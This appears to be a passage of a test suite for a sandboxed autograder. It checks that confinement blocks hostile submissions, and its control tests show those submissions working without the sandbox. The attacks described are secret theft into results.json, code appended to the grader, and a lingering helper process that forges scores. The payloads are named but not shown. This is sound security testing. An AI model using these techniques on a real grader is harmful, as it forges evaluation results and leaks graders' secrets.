        environment = {**os.environ, "GRADER_SANDBOX": SEPARATE_USER, "PYTHONPATH": str(source),
                       "PYTHONNOUSERSITE": "1"}
        done = subprocess.run([sandbox.python, "-m", "grader.gradescope", "run", "--root", str(autograder)],
                              cwd=source, env=environment, capture_output=True, text=True, encoding="utf-8",
                              timeout=TIMEOUT, stdin=subprocess.DEVNULL)
        written = results_of(autograder)
        document = graded_for_real(done, written, sandbox, autograder, 1)
        report = attack_report(document["tests"][0]["output"], token)
        assert report["attempts"][f"append to {report_py}"].startswith("refused: PermissionError"), report
        assert digest(report_py) == before
        assert label not in written
    finally:
        shutil.rmtree(source, ignore_errors=True)


def run_unconfined(root: Path, env: dict | None = None) -> subprocess.CompletedProcess:
    """`python -m grader.gradescope run --root ROOT --unconfined` as run_autograder runs it, with no sandbox."""
    environment = {**os.environ, **(env or {}), "GRADER_SANDBOX": NONE, "PYTHONPATH": str(root / "source"),
                   "PYTHONNOUSERSITE": "1"}
    return subprocess.run([sys.executable, "-m", "grader.gradescope", "run", "--root", str(root), "--unconfined"],
                          cwd=root / "source", env=environment, capture_output=True, text=True, encoding="utf-8",
                          timeout=TIMEOUT, stdin=subprocess.DEVNULL)


def test_unconfined_appended_code_runs_and_secrets_reach_results_json(autograder, graders_secrets):
    """The control: with no sandbox in the way, these attacks win (so the tests above pass because of the
    sandbox)."""
    home, environment, secrets = graders_secrets
    secrets_token, append_token, label = (processes.new_token(word) for word in ("secrets", "append", "injected"))
    report_py = autograder / "source" / "grader" / "report.py"
    submit(autograder, 1, attack(solution(1), STEAL_SECRETS, token=secrets_token, home=str(home)))
    (autograder / "submission" / MANIFEST.step(2).file).write_text(
        attack(solution(2), APPEND_TO_THE_GRADER, token=append_token, targets=[str(report_py)], forged=label),
        encoding="utf-8")
    done = run_unconfined(autograder, environment)
    assert done.returncode == 0, done.stdout + done.stderr
    written = results_of(autograder)
    assert all(secret in written for secret in secrets)
    assert json.loads(written)["output"].startswith(label), "the appended code ran"


def test_unconfined_a_helper_rewrites_results_json_after_the_run(autograder):
    """The control for the helper: with no sandbox, it outlives the run and replaces the grader's results."""
    token, label = processes.new_token("helper"), processes.new_token("forged")
    forged = forged_results(label)
    submit(autograder, 1, attack(solution(1), LEAVE_A_HELPER, token=token, helper=HELPER, forged=forged,
                                 targets=[str(autograder / "results" / "results.json")]))
    try:
        done = run_unconfined(autograder)
        assert done.returncode == 0, done.stdout + done.stderr
        deadline = time.monotonic() + 30  # it rewrites results.json every 50 ms once the grader has written it
        while results_of(autograder) != forged and time.monotonic() < deadline:
            time.sleep(0.1)
        assert results_of(autograder) == forged
    finally:
        for pid in processes.processes_carrying(token):  # the helper this test's learner left behind
            os.kill(pid, 9)


# --- refusing to grade without a sandbox, and saying so when told to ----------------------------------------

def refusal(done: subprocess.CompletedProcess) -> str:
    assert done.returncode == 2, done.stdout + done.stderr
    (line,) = done.stderr.strip().splitlines()
    assert "bubblewrap" in line and "--unconfined" in line, line
    return line


def honest_class(submissions: Path) -> None:
    shutil.copytree(KIT / "solutions", submissions / "ada")
    shutil.copytree(KIT / "solutions", submissions / "ben")
    path = submissions / "ben" / MANIFEST.step(2).file
    path.write_text(path.read_text(encoding="utf-8").replace("NEW_AND_OLD_IMAGES", "NEW_IMAGE"), encoding="utf-8")


def test_grade_class_refuses_to_grade_without_a_sandbox(tmp_path):
    honest_class(tmp_path / "submissions")
    done, _ = run_class(NONE, sys.executable, KIT, tmp_path / "submissions", tmp_path / "grades")
    assert refusal(done).startswith("grader.classroom: error: ")
    assert done.stdout == ""
    assert not (tmp_path / "grades" / "grades.csv").exists()


def test_grade_class_unconfined_grades_and_every_output_says_so(tmp_path):
    honest_class(tmp_path / "submissions")
    out = tmp_path / "grades"
    done, _ = run_class(NONE, sys.executable, KIT, tmp_path / "submissions", out, "--unconfined")
    assert done.returncode == 0, done.stdout + done.stderr
    assert messages.UNCONFINED_NOTE in done.stderr
    with (out / "grades.csv").open(encoding="utf-8", newline="") as file:
        rows = {row["learner"]: row for row in csv.DictReader(file)}
    assert list(rows) == ["ada", "ben"]
    assert [row["confinement"] for row in rows.values()] == [NONE, NONE]
    assert float(rows["ada"]["total"]) == ALL_POINTS and 0 < float(rows["ben"]["step2"]) < 1
    for learner in rows:
        assert messages.UNCONFINED_NOTE in (out / "feedback" / f"{learner}.txt").read_text(encoding="utf-8")


def test_run_autograder_refuses_to_grade_without_a_sandbox(autograder):
    submit(autograder, 1, solution(1))
    done, _ = run_autograder(autograder, Sandbox(NONE, sys.executable))
    refusal(done)
    assert not (autograder / "results" / "results.json").exists()


def unconfined_results(root: Path, done: subprocess.CompletedProcess) -> None:
    assert done.returncode == 0, done.stdout + done.stderr
    document = json.loads(results_of(root))
    assert document["extra_data"]["confinement"] == NONE
    assert messages.UNCONFINED_NOTE in document["output"]
    assert messages.UNCONFINED_NOTE in done.stdout
    assert document["score"] == ALL_POINTS


def test_gradescope_run_unconfined_grades_and_says_so(autograder):
    submit(autograder, 1, solution(1))
    unconfined_results(autograder, run_unconfined(autograder))


def test_a_zip_built_unconfined_grades_without_a_sandbox_and_says_so(tmp_path):
    archive = tmp_path / "unconfined.zip"
    built = subprocess.run([sys.executable, "-m", "grader.gradescope", "build", "--out", str(archive), "--unconfined"],
                           cwd=KIT, capture_output=True, text=True, timeout=TIMEOUT, stdin=subprocess.DEVNULL)
    assert built.returncode == 0, built.stderr
    root = tmp_path / "autograder"
    with zipfile.ZipFile(archive) as opened:
        assert json.loads(opened.read("gradescope.json"))["unconfined"] is True
        opened.extractall(root / "source")
    (root / "submission").mkdir()
    submit(root, 1, solution(1))
    done, _ = run_autograder(root, Sandbox(NONE, sys.executable))
    unconfined_results(root, done)
